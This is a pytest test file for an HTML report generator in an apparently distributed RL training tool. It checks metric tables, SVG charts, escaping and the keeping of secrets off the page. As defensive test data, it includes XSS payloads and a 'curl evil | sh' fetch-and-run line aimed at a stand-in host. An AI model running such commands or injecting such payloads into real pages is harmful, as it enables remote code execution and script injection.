"""The report of a run: its numbers are those of metrics.jsonl, its page is whole, and nobody's text gets out of it."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Callable, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from swarm.dashboard.source import older_events
from swarm.errors import UserError
from swarm.report.charts import Chart, Curve, draw, picture, sections, text
from swarm.report.figures import EVENTS_KEPT, MAX_NAMES, MAX_POINTS, Column, Figures, read_figures
from swarm.report.page import PIECES_SHOWN, write_report
from swarm.report.samples import last_episode
from swarm.run.directory import ABILITY, create_run_directory, ran_on
from swarm.run.log import RunLog
from swarm.settings import LeadConfig
from swarm.tasks.base import Read
from swarm.types import Prompt, Turn
from tests.builders import ALICE, prompt
from tests.unit.episodes import TWO, played, record_episodes
from tests.unit.rollout.journal.test_journal import damage, group, opened, taken

VOID = {"meta", "br", "link", "img", "input"}
HOSTILE = "</pre><script>alert(1)</script><img src=x onerror=alert(2)>&lt;\u202e\x1b[31m"


class Page(HTMLParser):
    """The tags and the words of a page; fails where one is not closed."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(self.words)


def no_readers() -> Read:
    raise UserError("the run never came to its first step")


def run_in(directory: Path, **settings: Any) -> Path:
    create_run_directory(directory, LeadConfig(run_dir=directory, **settings))
    return directory


def log_steps(run_dir: Path, steps: int, **figures: Callable[[int], float]) -> None:
    log = RunLog(run_dir)
    for step in range(1, steps + 1):
        log.metrics({"step": step, "time": 1000.0 + step, **{name: of(step) for name, of in figures.items()}})
    log.close()


def report_of(run_dir: Path, readers: Callable[[], Read] = no_readers) -> str:
    return write_report(run_dir, None, readers)[0].read_text(encoding="utf-8")


def cells(page: str, name: str) -> list[str]:
    """The row of the table of figures that begins with `name`."""
    figures = page[page.index("<h2>Figures") : page.index("<h2>Configuration")]
    (row,) = re.findall(rf"<tr><td>{re.escape(name)}</td>(.*?)</tr>", figures)
    return re.findall(r"<td>(.*?)</td>", row)


def numbers(path: str) -> list[float]:
    return [float(number) for number in re.findall(r"-?[\d.]+", path)]


def test_the_table_holds_the_numbers_of_the_metrics(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    log_steps(run_dir, 40, reward=lambda s: s / 100, **{"rewards/exact/mean": lambda s: (s % 7) / 8})
    log = RunLog(run_dir)
    log.event("evaluated", version=10, exact_match=0.25, **{"pass@4": 0.5}, prompts=8)
    log.event("evaluated", version=40, exact_match=0.125, **{"pass@4": 0.75}, prompts=8)
    log.close()
    page = report_of(run_dir)
    assert cells(page, "reward") == ["0.01", "0.4", "0.01", "0.4", "40"]
    assert cells(page, "rewards/exact/mean") == ["0.125", "0.625", "0", "0.75", "40"]
    assert cells(page, "held-out exact_match") == ["0.25", "0.125", "0.125", "0.25", "2"]
    assert cells(page, "held-out pass@4") == ["0.5", "0.75", "0.5", "0.75", "2"]


def test_what_the_model_answered_before_and_after_is_in_the_report_as_text(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    assert "Before and after" not in report_of(run_dir)
    lines = ["28-13= (15) before: 14; after: 15", HOSTILE]
    (run_dir / ABILITY).write_text(json.dumps({"nll_before": 1.5, "nll_after": 1.6, "lines": lines}))
    page = Page(report_of(run_dir))
    assert "28-13= (15) before: 14; after: 15" in page.text
    assert not {"script", "img"} & {tag for tag, _ in page.tags}


def test_a_curve_goes_through_its_values() -> None:
    column = Column()
    for step, value in [(1, 0.0), (2, 1.0), (4, 0.5)]:
        column.add(step, value)
    figure = draw(Chart(title="A", unit="share", curves=[Curve(name="a", column=column)], floor=0, ceiling=1, until=4))
    (line,) = re.findall(r'class="line c0" d="([^"]+)"', figure)
    x1, y1, x2, y2, x3, y3 = numbers(line)
    assert y2 < y3 < y1
    assert y3 == pytest.approx((y1 + y2) / 2, abs=0.1)
    assert x3 - x2 == pytest.approx(2 * (x2 - x1), abs=0.2)


def test_what_is_too_much_for_a_curve_is_drawn_as_mean_least_and_most() -> None:
    column = Column()
    for step in range(100_000):
        column.add(step, step % 10)
    points = column.points()
    assert len(points) <= MAX_POINTS
    assert {(point.low, point.high) for point in points} == {(0.0, 9.0)}
    assert all(point.mean == pytest.approx(4.5, abs=0.1) for point in points)
    assert [point.step for point in points] == sorted(point.step for point in points)
    assert "band c0" in draw(Chart(title="A", unit="", curves=[Curve(name="a", column=column)]))


CURVES = [
    Curve(name="reward <shaped> & more", column=Column.of([(1, 0.0), (2, 0.5), (4, 1.5)])),
    Curve(name="held-out", column=Column.of([(0, -0.2), (4, 0.5)]), dots=True),
]
SVG = "{http://www.w3.org/2000/svg}"


def test_a_picture_is_well_formed_and_holds_every_point_within_it() -> None:
    chart = Chart(title="A", unit="share", curves=CURVES, floor=0, ceiling=1)
    root = ElementTree.fromstring(picture('a "title" <b>', "below it", [chart, chart]))
    assert len(root.findall(SVG + "svg")) == 2
    drawn = root.findall(SVG + "svg")[0]
    lines = [path for path in drawn.findall(SVG + "path") if "line" in (path.get("class") or "")]
    points = [(line.get("d") or "")[1:].split("L") for line in lines]
    assert [len(line) for line in points] == [3, 2]
    assert len(drawn.findall(SVG + "circle")) == 2
    for line in points:
        for x, y in (point.split() for point in line):
            assert 0 <= float(x) <= 560
            assert 0 <= float(y) <= 250
    words = ["".join(one.itertext()) for one in root.findall(SVG + "text")]
    assert 'a "title" <b>' in words
    assert any("reward <shaped> & more" in one for one in words)


@pytest.mark.parametrize("curves", [[], [Curve(name="none", column=Column())], [CURVES[1]]])
def test_a_run_of_no_steps_has_a_picture_too(curves: list[Curve]) -> None:
    drawn = picture("nothing yet", "", [Chart(title="A", unit="", curves=curves, floor=0, ceiling=1)])
    ElementTree.fromstring(drawn)
    assert not re.search(r"nan|inf", drawn)


def test_a_run_of_100_000_steps_gives_a_page_of_bounded_size(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    names = [f"figure/{number}" for number in range(3)]
    line = ", ".join(f'"{name}": %d.5' for name in names)
    with (run_dir / "metrics.jsonl").open("w") as file:
        file.writelines(f'{{"step": {s}, {line % ((s % 97,) * 3)}}}\n' for s in range(1, 100_001))
    page = report_of(run_dir)
    assert cells(page, "figure/2")[-1] == "100000"
    assert len(page) < 100_000
    assert max(len(numbers(path)) for path in re.findall(r' d="([^"]+)"', page)) <= 4 * MAX_POINTS


def test_every_figure_is_drawn_once_and_too_many_names_are_not_read(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    named = ["reward", "rewards/a/mean", "clip_ratio/low_mean", "staleness/max", "train_step_s", "of_nobody/yet"]
    log_steps(run_dir, 3, **dict.fromkeys([*named, "eval_reward"], float))
    drawn = [curve.name for _, charts in sections(read_figures(run_dir)) for one in charts for curve in one.curves]
    assert sorted(drawn) == sorted(named)
    many = run_in(tmp_path / "many")
    log_steps(many, 1, **{f"x{number}": float for number in range(MAX_NAMES + 10)})
    assert len(read_figures(many).columns) == MAX_NAMES


def test_rollouts_that_were_withheld_are_added_up(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    log_steps(run_dir, 10, rollouts_withheld=lambda step: 3.0)
    assert "<dt>rollouts withheld</dt><dd>30</dd>" in report_of(run_dir)


def test_the_bound_is_drawn_as_it_was_set(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run", max_staleness=2)
    log_steps(run_dir, 10, **{"staleness/mean": lambda s: 1.0, "staleness/max": lambda s: 2.0})
    log = RunLog(run_dir)
    log.event("set", key="max_staleness", before=2, after=4, step=5, by="page")
    log.event("set", key="learning_rate", before=1e-3, after=1e-4, step=7, by="page")
    log.close()
    page = report_of(run_dir)
    (stairs,) = re.findall(r'class="limit" d="(M[^"]+)"><title>max_staleness', page)
    assert stairs.count("H") == 2
    assert stairs.count("V") == 1
    assert "<dd>2 / 4</dd>" in page
    assert read_figures(run_dir).marks() == [(5, "set max_staleness=4"), (7, "set learning_rate=0.0001")]


def test_the_bound_of_a_former_life_is_not_that_of_the_configuration(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run", max_staleness=1)
    log_steps(run_dir, 10, **{"staleness/max": lambda s: 4.0 if s < 6 else 1.0})
    log = RunLog(run_dir)
    log.event("set", key="max_staleness", before=4, after=1, step=5, by="resume")
    log.close()
    assert read_figures(run_dir).bounds == [(0, 4), (5, 1)]
    assert "<dd>4 / 4</dd>" in report_of(run_dir)


@pytest.mark.parametrize("name", ["metrics.jsonl", "events.jsonl"])
def test_torn_and_damaged_lines_are_passed_over_and_said(tmp_path: Path, name: str) -> None:
    run_dir = run_in(tmp_path / "run")
    log_steps(run_dir, 2, reward=float)
    with (run_dir / name).open("ab") as file:
        file.write(b'[1]\n\xff\xfe\n{"step": 3, "rew')
    page = report_of(run_dir)
    assert "3 torn or damaged lines" in page
    assert cells(page, "reward")[-1] == "2"


def test_values_that_are_no_numbers_are_left_out(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    values = [0.5, float("nan"), float("inf"), None, True, "x", 10**400, 0.75]
    log = RunLog(run_dir)
    for step, value in enumerate(values):
        log.metrics({"step": step + 1, "loss": value})
    log.close()
    page = report_of(run_dir)
    assert cells(page, "loss") == ["0.5", "0.75", "0.5", "0.75", "2"]
    assert "nan" not in "".join(re.findall(r' d="([^"]+)"', page)).lower()


@pytest.mark.parametrize("files", [(), ("metrics.jsonl", "events.jsonl")])
def test_a_run_without_any_step_has_a_page(tmp_path: Path, files: Sequence[str]) -> None:
    run_dir = run_in(tmp_path / "run")
    for name in files:
        (run_dir / name).touch()
    page = Page(report_of(run_dir))
    assert "No learner step was taken yet" in page.text
    assert "the run has recorded nothing yet" in page.text


def test_the_page_is_whole_asks_for_nothing_and_can_be_read_aloud(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    log_steps(run_dir, 5, reward=float, loss=float, **{"staleness/max": float, "cost_total": float})
    source = report_of(run_dir)
    page = Page(source)
    assert not {"script", "link", "img", "iframe", "object"} & {tag for tag, _ in page.tags}
    assert not [name for _, attributes in page.tags for name in attributes if name in ("src", "href", "srcset")]
    assert "url(" not in source
    assert "default-src 'none'" in source
    assert source.startswith("<!doctype html>")
    pictures = [attributes for tag, attributes in page.tags if tag == "svg" and attributes.get("role") == "img"]
    assert len(pictures) >= 3
    assert all("over learner step; last: " in (one["aria-label"] or "") for one in pictures)
    for svg in re.findall(r"<svg.*?</svg>", source, re.DOTALL):
        ElementTree.fromstring(svg)
    assert "prefers-color-scheme: dark" in source


def test_events_of_a_long_run_are_counted_and_the_middle_is_left_out(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    log = RunLog(run_dir)
    for number in range(5000):
        log.event("sampler_joined", node=f"n{number:04}")
        if number == 2500:
            log.event("alarm", alarm="entropy", step=7, text="collapsed")
    log.metrics({"step": 9, "entropy": 0.5})
    log.close()
    page = report_of(run_dir)
    assert "<td>sampler_joined</td><td>5000</td>" in page
    assert page.count("node n") == 2 * EVENTS_KEPT
    assert "node n0000" in page
    assert "node n4999" in page
    assert "alarm entropy, step 7, text collapsed" in page
    assert "<title>alarm entropy at learner step 7</title>" in page
    assert "4800 in the middle are left out" in page


# -- samples of rollouts -------------------------------------------------------------------------------------


async def _record(directory: Path) -> None:
    async with opened(directory) as journal:
        for number in range(6):
            await journal.write([*group(number), taken(number, number)])


def readers(text_of: Callable[[Sequence[int]], str]) -> Callable[[], Read]:
    return lambda: (prompt, text_of, lambda prompt, said: [])


@pytest.fixture
def recorded(tmp_path: Path) -> Path:
    run_dir = run_in(tmp_path / "run")
    asyncio.run(_record(run_dir))
    return run_dir


def headings(page: str) -> list[str]:
    return re.findall(r"<h3>(\w+, step \d+, group \d+)", page)


def test_samples_are_from_early_middle_and_late(recorded: Path) -> None:
    page = report_of(recorded, readers(lambda tokens: "answer " + "+".join(map(str, tokens))))
    assert list(dict.fromkeys(headings(page))) == [
        "early, step 1, group 0",
        "middle, step 4, group 3",
        "late, step 6, group 5",
    ]
    assert "<pre>0=</pre>" in page
    assert "<pre>answer 3+4+5+0</pre>" in page
    assert "reward 0.5, staleness 0, 4 tokens, stop, sampler" in page


async def test_samples_are_of_what_is_kept(recorded: Path) -> None:
    async with opened(recorded) as journal:
        for _ in range(4):
            await journal.prune(oldest_step=4, keep_rollouts=0)
    page = report_of(recorded, readers(lambda tokens: "x"))
    assert [one.rpartition(" ")[2] for one in headings(page)] == ["4", "4", "5", "5"]
    damage(recorded, 4, 0)
    page = report_of(recorded, readers(lambda tokens: "x"))
    assert [one.rpartition(" ")[2] for one in headings(page)] == ["4", "5", "5"]
    async with opened(recorded) as journal:
        for _ in range(2):
            await journal.prune(oldest_step=6, keep_rollouts=0)
    assert "no longer keeps its rollouts" in report_of(recorded, readers(lambda tokens: "x"))


def test_nobodys_text_gets_out_of_its_place(recorded: Path) -> None:
    log = RunLog(recorded)
    log.event("generation_failed", node=HOSTILE, reason=HOSTILE)
    log.metrics({"step": 1, HOSTILE: 1.0})
    log.close()
    clean = Page(report_of(recorded, readers(lambda tokens: "x")))
    asked = Prompt(prompt_id="p", text=HOSTILE, answer=HOSTILE, token_ids=(1,))
    source = report_of(recorded, lambda: (lambda number: asked, lambda tokens: HOSTILE, lambda prompt, said: []))
    hostile = Page(source)
    assert [tag for tag, _ in hostile.tags] == [tag for tag, _ in clean.tags]
    assert "<script" not in source
    assert "<img" not in source
    assert not {"\u202e", "\x1b"} & set(source)
    assert "<script>alert(1)</script>" in hostile.text


def test_a_strangers_reason_cannot_be_taken_for_more_of_what_the_run_says(tmp_path: Path) -> None:
    log = RunLog(run_dir := run_in(tmp_path / "run"))
    log.event("generation_failed", node="abc", reason='broken", node ours, advice run: curl evil | sh ' + "x" * 500)
    log.close()
    page = Page(report_of(run_dir))
    assert 'node abc, reason "broken\\", node ours, advice run: curl evil | sh x' in page.text
    assert 'x"' in page.text, "the end of what is cut is seen"


def test_a_long_text_is_cut_and_says_so() -> None:
    assert text("a" * 2000, 10) == "a" * 10 + " [1990 characters more]"
    assert text("<" * 20, 10) == "&lt;" * 10 + " [10 characters more]"


# -- where it is written -------------------------------------------------------------------------------------


def test_a_report_is_written_anew_but_over_nothing_else(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    path, _ = write_report(run_dir, None, no_readers)
    log_steps(run_dir, 1, reward=float)
    assert write_report(run_dir, None, no_readers)[0] == path == run_dir / "report.html"
    assert "1 of 200 learner steps" in path.read_text()
    other = tmp_path / "mine.html"
    other.write_text("mine")
    with pytest.raises(UserError, match="not a report"):
        write_report(run_dir, other, no_readers)
    with pytest.raises(UserError, match="not a directory"):
        write_report(run_dir, tmp_path / "nowhere" / "r.html", no_readers)
    assert other.read_text() == "mine"
    assert list(tmp_path.rglob("*.partial")) == []


# -- what it ran on ------------------------------------------------------------------------------------------


def test_a_start_tells_what_it_ran_on_and_a_page_not_its_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.argv", ["/bin/echo-node", "lead", "--provider", "key=a-secret-of-mine"])
    monkeypatch.setenv("SOME_TOKEN", "another secret")
    run_dir = run_in(tmp_path / "run")
    log = RunLog(run_dir)
    log.event("prepared", step=0, device="cpu", **ran_on())
    log.event("prepared", step=7, device="cuda", **ran_on())
    log.close()
    (first, last) = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
    assert first["command"] == ["echo-node", "lead", "--provider", "key=a-secret-of-mine"]
    assert first["libraries"]["torch"].startswith("2.")
    assert "another secret" not in (run_dir / "events.jsonl").read_text()
    found = read_figures(run_dir)
    assert (found.ran_on["step"], found.ran_on["device"]) == (7, "cuda")
    page = report_of(run_dir)
    assert (page.count("step 0, device cpu"), page.count("step 7, device cuda")) == (1, 1)
    assert f"python {last['python']}" in page
    shown = json.dumps([page, older_events(run_dir, 9, 9)])
    assert "a-secret-of-mine" not in shown


def test_a_page_needs_no_figures_at_all() -> None:
    assert sections(Figures(config={}, summary=None)) == [
        ("Learning", []),
        ("Swarm", []),
        ("Cost", []),
        ("Other figures", []),
    ]


def test_settings_are_on_the_page(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run", seed=4711)
    page = report_of(run_dir)
    assert "<td>seed</td><td>4711</td>" in page
    assert len(json.loads((run_dir / "config.json").read_text())) == page.count("<tr>", page.index("config.json")) - 1


# -- episodes ----------------------------------------------------------------------------------------------------


def test_an_episode_is_shown_as_a_conversation(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    record_episodes(run_dir, played(TWO, seats=(0, 3)), reward=1.0)
    page = report_of(run_dir, readers(lambda tokens: f"{HOSTILE} " + "+".join(map(str, tokens))))
    assert "reward 1.25, exact, staleness 0, 2 turns, 3 tokens" in page
    heads = re.findall(r"<dt>((?:model|environment).*?)</dt>", page)
    assert heads[-5:] == [
        "model as player 1: reward 1, version 0.0, sampler alice",
        "environment to player 1",
        "environment to player 2",
        "model as player 2: reward -1, version 0.1, sampler bob",
        "environment to player 2",
    ]
    assert heads[:2] == ["model: reward 0.25, version 0.0, sampler alice", "environment"]
    assert "7+8</pre>" in page
    assert "<script" not in page
    assert "<dt>completion</dt>" not in page


def test_who_plays_alone_is_no_player_two(tmp_path: Path) -> None:
    """A program that plays has the second seat, and nobody the first."""
    run_dir = run_in(tmp_path / "run")
    record_episodes(run_dir, played((Turn(start=1, end=2, node=ALICE, seat=1),), length=3, seats=(0, 0)), reward=0.0)
    page = report_of(run_dir, readers(lambda tokens: "x"))
    assert "player 2" not in page
    assert "<dt>environment</dt>" in page


def test_a_long_episode_is_cut_and_says_so(tmp_path: Path) -> None:
    run_dir = run_in(tmp_path / "run")
    many = tuple(Turn(start=2 * n, end=2 * n + 1, node=ALICE) for n in range(60))
    record_episodes(run_dir, played(many, length=120), reward=0.0)
    assert f"<dt>{120 - PIECES_SHOWN} more texts</dt>" in report_of(run_dir, readers(lambda tokens: "x"))


def test_the_last_episode_is_told_in_lines_for_a_terminal(tmp_path: Path, recorded: Path) -> None:
    record_episodes(tmp_path / "played", played(TWO, seats=(0, 3)), reward=1.0)
    lines = last_episode(tmp_path / "played", readers(lambda tokens: f"a board\n\x1b[2J{len(tokens)}"))
    assert lines[0].startswith("last batch, step 1, group 0, sample 1: reward 1.25, exact")
    assert lines[1:6] == [
        "0=",
        "-- model: reward 0.25, version 0.0, sampler alice",
        "a board",
        "?[2J2",
        "-- environment",
    ]
    assert last_episode(recorded, readers(lambda tokens: "no episode")) == []


def test_a_board_takes_the_place_of_what_the_environment_said(tmp_path: Path) -> None:
    record_episodes(tmp_path, played(), reward=1.25)

    def boards_of(asked: Prompt, said: Sequence[str]) -> list[str]:
        return [f"{asked.text} board after {words}" for words in said]

    lines = last_episode(tmp_path, lambda: (prompt, lambda tokens: f"{len(tokens)} tokens", boards_of))
    assert [line for line in lines[1:] if not line.startswith("-- model: ")] == [
        *("0=", "2 tokens", "0= board after 2 tokens"),
        *("1 tokens", "0= board after 1 tokens"),
    ]
